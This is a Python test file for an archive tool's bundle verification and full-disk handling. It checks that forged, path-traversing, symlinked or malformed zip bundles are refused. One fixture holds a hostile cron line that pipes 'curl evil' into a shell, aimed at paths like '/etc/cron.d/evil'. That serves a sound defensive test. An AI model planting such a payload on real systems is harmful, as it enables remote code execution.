"""Bundles an attacker or a broken machine hands to verify, and a disk that fills up while the archive is written."""

from __future__ import annotations

import errno
import hashlib
import json
import os
import subprocess
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from pipeline.archive import export, verify
from pipeline.cli import main
from pipeline.errors import StorageFull
from tests.archive_support import PLAN_ID, PLANS, Filled, filled, letters, pdf

__all__ = ["filled", "letters"]  # fixtures, used by name


def _manifest(files: dict[str, bytes]) -> dict[str, Any]:
    return json.loads(files["manifest.json"])


def _zip(path: Path, entries: list[tuple[str, bytes]]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)


def _exported(filled: Filled, tmp_path: Path) -> dict[str, bytes]:
    export(filled.store, filled.archive, PLAN_ID, tmp_path / "good.zip")
    with zipfile.ZipFile(tmp_path / "good.zip") as z:
        return {n: z.read(n) for n in z.namelist()}


def _listed(files: dict[str, bytes], name: str, data: bytes) -> None:
    """Put `data` in the bundle as `name` and list it in the manifest with its true hash and size."""
    files[name] = data
    manifest = _manifest(files)
    manifest["files"][name] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    files["manifest.json"] = json.dumps(manifest).encode()


def _verify_cli(bundle: Path) -> Any:
    result = CliRunner().invoke(main, ["archive", "verify", str(bundle)])
    assert "Traceback" not in result.output and isinstance(result.exception, SystemExit | None), result.output
    return result


# --- a zip that is not what it seems is refused ------------------------------------------------------


def test_a_forged_letter_ahead_of_the_real_one_under_the_same_name_is_refused(filled: Filled, tmp_path: Path) -> None:
    files = _exported(filled, tmp_path)
    letter = _manifest(files)["versions"][1]["letters"][0]
    forged = pdf("Mutual Plan, version 2: the pilot is free of charge", PLANS[1])
    bundle = tmp_path / "forged.zip"
    # Many unzip tools show the first of two entries of one name; a check reading the last passes the real one.
    with pytest.warns(UserWarning, match="Duplicate name"):
        _zip(bundle, [(letter, forged), *sorted(files.items())])
    report = verify(bundle)
    assert not report.ok
    assert report.refused == [f"the zip holds 2 entries named {letter}: a bundle holds each file once"]
    result = _verify_cli(bundle)
    assert result.exit_code == 1 and f"refused: the zip holds 2 entries named {letter}" in result.output


@pytest.mark.parametrize("name", ["../outside.txt", "/etc/cron.d/evil", "versions/../../x.pdf", "C:/x.txt"])
def test_an_entry_that_would_unzip_outside_the_bundle_is_refused_even_when_listed(
        filled: Filled, tmp_path: Path, name: str) -> None:
    files = _exported(filled, tmp_path)
    manifest = _manifest(files)
    data = b"* * * * * root curl evil | sh\n"
    manifest["files"][name] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    files["manifest.json"] = json.dumps(manifest).encode()
    bundle = tmp_path / "escape.zip"
    _zip(bundle, [*sorted(files.items()), (name, data)])
    report = verify(bundle)
    assert not report.ok and len(report.refused) == 1 and repr(name) in report.refused[0]
    assert "outside the bundle" in report.refused[0]
    assert _verify_cli(bundle).exit_code == 1


def test_a_symbolic_link_in_a_directory_bundle_is_refused(filled: Filled, tmp_path: Path) -> None:
    export(filled.store, filled.archive, PLAN_ID, tmp_path / "b")
    (tmp_path / "secret.txt").write_text("not the bundle's")
    (tmp_path / "b" / "emails" / "link.eml").symlink_to(tmp_path / "secret.txt")
    report = verify(tmp_path / "b")
    assert report.refused == ["emails/link.eml is a symbolic link: a bundle holds only its own files"]


@pytest.mark.parametrize("edit, field", [
    (lambda m: m["versions"][0].__setitem__("letters", [["versions/v001-letter.pdf"]]), "versions[0].letters"),
    (lambda m: m["versions"][1].__setitem__("letters", "versions/v002-letter.pdf"), "versions[1].letters"),
    (lambda m: m.__setitem__("emails", [{"file": ["a.eml"]}]), "emails"),
    (lambda m: m["versions"][0].pop("hash"), "versions[0].hash"),
    (lambda m: m["versions"].__setitem__(0, "v1"), "versions[0]"),
    (lambda m: m["files"]["audit.json"].__setitem__("size", "12"), "files['audit.json'].size"),
    (lambda m: m["files"]["audit.json"].__setitem__("sha256", None), "files['audit.json'].sha256"),
    (lambda m: m.__setitem__("files", [1, 2]), "files"),
    (lambda m: m.__setitem__("versions", {"1": {}}), "versions"),
])
def test_a_manifest_of_the_wrong_shape_is_named_never_a_traceback(
        filled: Filled, tmp_path: Path, edit: Any, field: str) -> None:
    files = _exported(filled, tmp_path)
    manifest = _manifest(files)
    edit(manifest)
    files["manifest.json"] = json.dumps(manifest).encode()
    bundle = tmp_path / "shape.zip"
    _zip(bundle, sorted(files.items()))
    report = verify(bundle)
    assert not report.ok and report.changed == ["manifest.json"]
    assert len(report.problems) == 1 and f"is not a manifest this release can read: {field} must be" \
        in report.problems[0]
    result = _verify_cli(bundle)
    assert result.exit_code == 1 and field in result.output


@pytest.mark.parametrize("kind", ["dir", "zip"])
def test_verify_reads_a_large_file_in_chunks(filled: Filled, tmp_path: Path, kind: str) -> None:
    out = tmp_path / "b"
    export(filled.store, filled.archive, PLAN_ID, out)
    size, h = 48 << 20, hashlib.sha256()
    block = bytes(range(256)) * 4096  # 1 MiB
    with (out / "emails" / "big.eml").open("wb") as f:
        for _ in range(size // len(block)):
            f.write(block)
            h.update(block)
    manifest = json.loads((out / "manifest.json").read_text())
    manifest["files"]["emails/big.eml"] = {"sha256": h.hexdigest(), "size": size}
    (out / "manifest.json").write_text(json.dumps(manifest))
    bundle = out
    if kind == "zip":
        bundle = tmp_path / "b.zip"
        with zipfile.ZipFile(bundle, "w", zipfile.ZIP_DEFLATED) as z:
            for path in sorted(p for p in out.rglob("*") if p.is_file()):
                z.write(path, path.relative_to(out).as_posix())  # streams from the file
    tracemalloc.start()
    try:
        report = verify(bundle)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert report.ok, report.to_dict()
    assert peak < 12 << 20, f"verify held {peak >> 20} MiB for a bundle with a {size >> 20} MiB file"


# --- verify checks what the content itself proves -------------------------------------------------------


def test_a_letter_carrying_another_versions_plan_is_named_though_the_manifest_agrees(
        filled: Filled, tmp_path: Path) -> None:
    files = _exported(filled, tmp_path)
    letter = _manifest(files)["versions"][1]["letters"][0]
    # A forged version 2 letter (its own words, version 1's plan inside), listed with its true hash.
    _listed(files, letter, pdf("Mutual Plan, version 2", PLANS[0]))
    bundle = tmp_path / "swapped.zip"
    _zip(bundle, sorted(files.items()))
    report = verify(bundle)
    assert (report.changed, report.missing, report.added) == ([], [], [])
    assert report.problems == [f"version 2: the plan.json embedded in {letter} is not the version's plan"]


def test_a_letter_without_its_plan_is_named(filled: Filled, tmp_path: Path) -> None:
    files = _exported(filled, tmp_path)
    letter = _manifest(files)["versions"][0]["letters"][0]
    _listed(files, letter, pdf("Mutual Plan, version 1"))
    bundle = tmp_path / "bare.zip"
    _zip(bundle, sorted(files.items()))
    assert verify(bundle).problems == [f"version 1: {letter} carries no readable plan.json"]


def test_a_sound_bundle_says_how_many_letters_it_checked(filled: Filled, tmp_path: Path) -> None:
    export(filled.store, filled.archive, PLAN_ID, tmp_path / "b")
    report = verify(tmp_path / "b")
    assert report.ok and report.letters == 3


# --- a full disk: a clear error, exit 2, nothing lost --------------------------------------------------------


@pytest.fixture
def tiny_disk(tmp_path: Path) -> Iterator[Path]:
    """A 64 KiB tmpfs (root only); skipped where mounting is not allowed."""
    disk = tmp_path / "disk"
    disk.mkdir()
    if os.geteuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(disk)],
                                           capture_output=True).returncode != 0:
        pytest.skip("cannot mount a tmpfs here")
    try:
        yield disk
    finally:
        subprocess.run(["umount", str(disk)], check=False)


@pytest.mark.parametrize("out", ["bundle.zip", "bundle"])
def test_export_to_a_full_disk_leaves_nothing_half_written(filled: Filled, tiny_disk: Path, out: str) -> None:
    old = tiny_disk / "bundle.zip"
    old.write_bytes(b"the bundle exported last week")
    (tiny_disk / "other").write_bytes(b"-" * (56 << 10))  # what else the disk holds: 8 KiB stay free
    with pytest.raises(StorageFull, match="the disk is full: cannot write the bundle to"):
        export(filled.store, filled.archive, PLAN_ID, tiny_disk / out)
    # The earlier bundle is as it was; no temporary file or half directory is left behind.
    assert old.read_bytes() == b"the bundle exported last week"
    assert sorted(p.name for p in tiny_disk.iterdir()) == ["bundle.zip", "other"]


@pytest.mark.parametrize("out", ["bundle.zip", "bundle"])
def test_export_when_a_write_reports_a_full_disk(filled: Filled, tmp_path: Path, out: str,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("pipeline.archive.write.os.fsync", full)
    with pytest.raises(StorageFull, match="the disk is full"):
        export(filled.store, filled.archive, PLAN_ID, tmp_path / out)
    assert not (tmp_path / out).exists() and [p.name for p in tmp_path.iterdir()] == ["home"]


def test_the_export_command_on_a_full_disk_exits_2_with_the_reason(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    assert CliRunner().invoke(main, ["--home", str(home), "init"]).exit_code == 0
    plan = Path(__file__).parent / "fixtures" / "example-plan.md"
    assert CliRunner().invoke(main, ["--home", str(home), "add", str(plan)]).exit_code == 0

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("pipeline.archive.write.os.fsync", full)
    result = CliRunner().invoke(main, ["--home", str(home), "archive", "export", PLAN_ID, "--out",
                                       str(tmp_path / "b.zip")])
    assert result.exit_code == 2, result.output
    assert "the disk is full" in result.output and "nothing was lost" in result.output
    assert not (tmp_path / "b.zip").exists()


# --- the watcher's archive on a full disk: the poll stops, says why, and loses nothing -------------------------


@pytest.fixture
def sent_home(tmp_path: Path) -> Path:
    """The example's version 1 queued for sending, in a home with the local Maildir mailbox."""
    from pipeline.home import init_home
    from pipeline.loop.service import Service, queue_plan
    from tests.loop_support import SELLER, START, Clock, example_plan, settings_toml

    home = init_home(tmp_path / "home")
    home.settings_path.write_text(settings_toml(), encoding="utf-8")
    with Service.open(home, Clock(START)) as watcher:
        watcher.store.add_version(example_plan(), author=SELLER, reason="created", created=START)
        queue_plan(watcher.store, PLAN_ID, at=START)
    return home.root


def _disk_full(monkeypatch: pytest.MonkeyPatch) -> None:
    def full(path: Path, data: bytes, **_: Any) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("pipeline.archive.objects.write_atomic", full)


def _watch(home: Path) -> Any:
    result = CliRunner().invoke(main, ["--home", str(home), "watch", "--once", "--json"])
    assert "Traceback" not in result.output and isinstance(result.exception, SystemExit | None), result.output
    return result


def _outbox(home: Path) -> list[tuple[str, str]]:
    from pipeline.home import Home

    with Home(home).open_store() as store:
        return [(e.kind, e.state) for e in store.outbox_entries(PLAN_ID)]


def test_a_letter_that_cannot_be_archived_stays_queued_and_goes_once_there_is_room(
        sent_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with monkeypatch.context() as patch:
        _disk_full(patch)
        for _ in range(3):
            result = _watch(sent_home)
            assert result.exit_code == 2 and "the disk is full" in result.output
    assert _outbox(sent_home) == [("plan", "pending")]  # not failed: the disk, not the email, was at fault
    assert _watch(sent_home).exit_code == 0
    assert _outbox(sent_home) == [("plan", "sent")]


def test_a_reply_that_cannot_be_archived_is_handled_once_there_is_room(
        sent_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from pipeline.home import Home
    from pipeline.mailbox.maildir import MaildirMailbox
    from tests.loop_support import DANA, START, reply

    assert _watch(sent_home).exit_code == 0
    MaildirMailbox(Home(sent_home).mail_dir).deliver(
        reply(DANA, "Please move M3 to March 8.", message_id="<full@acme.example>", when=START))
    with monkeypatch.context() as patch:
        _disk_full(patch)
        for _ in range(4):  # more polls than the spool's attempts before it gives a message up
            result = _watch(sent_home)
            assert result.exit_code == 2 and "the disk is full" in result.output
    result = _watch(sent_home)
    assert result.exit_code == 0, result.output
    assert [h["message_id"] for h in json.loads(result.output)["handled"]] == ["full@acme.example"]
    with Home(sent_home).open_store() as store:
        assert store.current(PLAN_ID).number == 2


def test_a_reply_that_cannot_be_spooled_stays_in_the_mailbox_until_there_is_room(
        sent_home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from pipeline.home import Home
    from pipeline.mailbox.maildir import MaildirMailbox
    from tests.loop_support import DANA, START, reply

    assert _watch(sent_home).exit_code == 0
    MaildirMailbox(Home(sent_home).mail_dir).deliver(
        reply(DANA, "Please move M3 to March 8.", message_id="<spool@acme.example>", when=START))

    def full(path: Path, data: bytes, **_: Any) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr("pipeline.spool.write_atomic", full)
        result = _watch(sent_home)
        assert result.exit_code == 2 and "the disk is full: cannot write a fetched message" in result.output
    result = _watch(sent_home)
    assert [h["message_id"] for h in json.loads(result.output)["handled"]] == ["spool@acme.example"]
